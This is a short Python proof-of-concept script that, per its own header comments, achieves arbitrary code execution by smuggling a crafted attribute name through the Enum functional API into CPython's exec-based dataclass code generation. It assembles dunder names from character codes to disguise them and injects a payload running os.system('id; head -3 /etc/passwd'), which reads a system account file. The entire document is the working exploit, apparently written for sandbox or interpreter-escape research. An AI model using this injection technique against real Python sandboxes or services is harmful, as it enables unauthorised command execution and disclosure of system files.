# source: enum functional API (_EnumDict stores dunder names as plain class attributes) + CPython dataclasses._create_fn exec injection
# family: class factory with data-driven attribute names (Enum functional API) sets __annotations__ -> dataclasses exec code injection
# goal: arbitrary code execution: os.system("id; head -3 /etc/passwd")
import enum
import dataclasses


def s(codes):
    return "".join(map(chr, codes))


ANN = s([95, 95]) + "annotations" + s([95, 95])
IMP = s([95, 95]) + "import" + s([95, 95])
CODE = IMP + "('os').system('id; head -3 /etc/passwd')"
N = "a)" + chr(34) + chr(10) + " " + CODE + "#"
E = enum.Enum("E", [(ANN, {N: int}), ("x", 1)])
try:
    dataclasses.dataclass(E, init=False, eq=False)
except Exception as e:
    print("after:", type(e).__name__, e)
